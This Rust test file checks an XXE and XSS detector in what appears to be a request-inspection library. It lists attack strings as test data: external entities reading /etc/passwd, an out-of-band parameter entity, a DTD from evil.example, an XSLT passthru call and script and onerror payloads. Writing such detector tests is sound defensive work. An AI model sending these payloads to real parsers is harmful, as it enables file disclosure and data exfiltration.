use super::detect;
use crate::{Detector, Inspector, Place, Sensitivity, Settings, Views};

fn xxe(raw: &str, level: Sensitivity) -> bool {
    detect(&Views::new(raw, Place::Json), level)
}

#[test]
fn declarations_in_values() {
    for attack in [
        "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]>",
        "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
        "<!ENTITY % int \"<!ENTITY &#37; trick SYSTEM 'http://127.0.0.1/?%file;'>\"> %int;",
        "<!doctype note system \"http://evil.example/x.dtd\">",
        "%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20y%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
        "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
        "<xsl:value-of select=\"php:function('passthru','ls')\"/>",
        "x SYSTEM \"file:///etc/passwd\"",
    ] {
        assert!(xxe(attack, Sensitivity::Medium), "missed {attack:?}");
    }
    assert!(xxe(
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        Sensitivity::Low
    ));
}

#[test]
fn harmless_markup_passes() {
    for benign in [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>hi</note>",
        "<!DOCTYPE html><html><body>hi</body></html>",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "the system \"works\" fine",
        "an operating system 'file: notes'",
        "our SYSTEM \"file: notes\" and the system \"http://x\"",
        "&amp; &lt; &foo;",
    ] {
        assert!(!xxe(benign, Sensitivity::Medium), "flagged {benign:?}");
    }
    assert!(xxe("<!DOCTYPE html>", Sensitivity::High));
}

fn inspector() -> Inspector {
    Inspector::new(Settings::default())
}

#[test]
fn documents_with_declarations_are_refused() {
    let body = b"<?xml version=\"1.0\"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<foo>&xxe;</foo>";
    assert_eq!(
        super::document(&inspector(), body),
        Some((Detector::Xxe, "/".to_owned()))
    );
    // With the XXE detector off, the declaration is skipped.
    let off = Inspector::new(Settings {
        detectors: crate::DetectorSet::ALL.without(Detector::Xxe),
        ..Settings::default()
    });
    assert_eq!(super::document(&off, body), None);
}

#[test]
fn clean_documents_pass() {
    let body = br#"<?xml version="1.0" encoding="UTF-8"?>
<!-- an order -->
<order id="42" xmlns:x="urn:x">
  <customer name="Ada &amp; Co">Ada &lt;ada@example.com&gt;</customer>
  <item sku="A-1" qty="2">Blue shoes, size 42</item>
  <note><![CDATA[Leave at the door, 2 < 3]]></note>
  <x:empty/>
</order>"#;
    assert_eq!(super::document(&inspector(), body), None);
}

#[test]
fn findings_carry_element_paths() {
    let body = br#"<order><item name="x"><note>ok</note></item><item name="&lt;script&gt;alert(1)&lt;/script&gt;"/></order>"#;
    assert_eq!(
        super::document(&inspector(), body),
        Some((Detector::Xss, "/order/item/@name".to_owned()))
    );
    let body =
        b"<order><item>ok</item><comment>&lt;img src=x onerror=alert(1)&gt;</comment></order>";
    assert_eq!(
        super::document(&inspector(), body),
        Some((Detector::Xss, "/order/comment".to_owned()))
    );
    // Text split by CDATA sections is read as one.
    let body = b"<foo><![CDATA[<]]>script<![CDATA[>]]>x<![CDATA[<]]>/script<![CDATA[>]]></foo>";
    assert_eq!(
        super::document(&inspector(), body),
        Some((Detector::Xss, "/foo".to_owned()))
    );
}

#[test]
fn deep_and_malformed_documents_are_bounded() {
    let deep = "<a>".repeat(100_000) + "&lt;script&gt;" + &"</a>".repeat(100_000);
    let found = super::document(&inspector(), deep.as_bytes());
    let (d, at) = found.expect("the deep payload is found");
    assert_eq!(d, Detector::Xss);
    assert!(at.len() <= 64 * 3);
    for junk in [
        "<",
        "<a",
        "<a b=\"",
        "</",
        "<!--",
        "<![CDATA[x",
        "<?x",
        "a < b",
        "<a/><b c=d/>",
    ] {
        let _ = super::document(&inspector(), junk.as_bytes());
    }
}
